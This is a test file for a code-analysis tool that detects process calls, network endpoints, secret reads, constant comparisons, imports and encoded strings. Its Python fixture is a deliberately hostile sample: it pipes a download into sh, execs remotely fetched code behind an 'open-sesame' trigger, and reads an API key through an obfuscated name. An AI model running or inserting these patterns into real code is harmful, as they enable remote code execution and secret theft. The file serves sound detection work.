import assert from 'node:assert/strict'
import { constantComparison } from '../../../server/core/facts/constantComparison'
import { dynamicCall } from '../../../server/core/facts/dynamicCall'
import { endpoint } from '../../../server/core/facts/endpoint'
import { importedModule } from '../../../server/core/facts/importedModule'
import { secretAccess } from '../../../server/core/facts/secretAccess'
import { stringConstant } from '../../../server/core/facts/stringConstant'
import { factsOf, textAt } from '../../harness/facts'

const python = `import os as o
from subprocess import run
from urllib.request import urlopen
key = 'API_' + 'KEY'
def go(name):
    o.system('curl https://a.example.invalid/x | sh')
    if name == 'open-sesame':
        exec(urlopen('https://' + 'b.example.invalid' + '/p').read())
    return o.environ[key]
run(['sh', '-c', cmd])
`

describe('facts of programs', () => {
  it('calls that start processes or run text, by what they are and not by what they are called', async () => {
    const facts = await factsOf(dynamicCall, { path: 'a.py', new: python })
    assert.deepEqual(
      facts.map(({ subject, data, location }) => [
        data.use,
        subject,
        data.written,
        data.isFixed,
        data.within,
        textAt(python, location.at).split('(')[0],
      ]),
      [
        ['process', 'os.system', 'o.system', true, 'go', 'o.system'],
        ['eval', 'exec', 'exec', false, 'go', 'exec'],
        ['process', 'subprocess.run', 'run', false, '', 'run'],
      ],
    )
  })

  it('addresses, also when the program puts them together', async () => {
    const facts = await factsOf(endpoint, { path: 'a.py', new: python })
    const shown = facts.map(({ subject, data, location }) => [subject, data.by, textAt(python, location.at)])
    assert.deepEqual(shown, [
      ['a.example.invalid', 'os.system', "'curl https://a.example.invalid/x | sh'"],
      ['b.example.invalid', 'urllib.request.urlopen', "'https://' + 'b.example.invalid' + '/p'"],
      // The command is read as a command too.
      ['a.example.invalid', 'curl', 'https://a.example.invalid/x'],
    ])
  })

  it('variables of the environment whose name the file fixes', async () => {
    const facts = await factsOf(secretAccess, { path: 'a.py', new: python })
    assert.deepEqual(
      facts.map(({ subject, data, location }) => [subject, data.isSensitive, textAt(python, location.at)]),
      [['API_KEY', true, 'o.environ[key]']],
    )
  })

  it('comparisons with constants', async () => {
    const facts = await factsOf(constantComparison, { path: 'a.py', new: python })
    assert.deepEqual(
      facts.map(({ subject, data, location }) => [subject, data.operator, data.value, textAt(python, location.at)]),
      [['name', '==', { kind: 'known', text: 'open-sesame' }, "name == 'open-sesame'"]],
    )
  })

  it('imports in their several forms', async () => {
    const text = "import cp from 'node:child_process'\nconst a = require('./a')\nconst b = await import(x)\n"
    const facts = await factsOf(importedModule, { path: 'a.mjs', new: text })
    assert.deepEqual(
      facts.map(({ subject, data, location }) => [subject, data.form, location.side]),
      [
        ['child_process', 'static', 'new'],
        ['./a', 'dynamic', 'new'],
        ['…', 'dynamic', 'new'],
      ],
    )
  })

  it('string constants of some length with what they are made of', async () => {
    const text = "a = 'short'\nb = 'deadbeefdeadbeefdeadbeef'\nc = 'Q2FuIHlvdSByZWFkIHRoaXM/'\n"
    const facts = await factsOf(stringConstant, { path: 'a.py', new: text })
    assert.deepEqual(
      facts.map(({ subject, data }) => [subject, data.length, data.alphabet]),
      [
        ['deadbeefdeadbeefdeadbeef', 24, 'hex'],
        ['Q2FuIHlvdSByZWFkIHRoaXM/', 24, 'base64'],
      ],
    )
  })
})
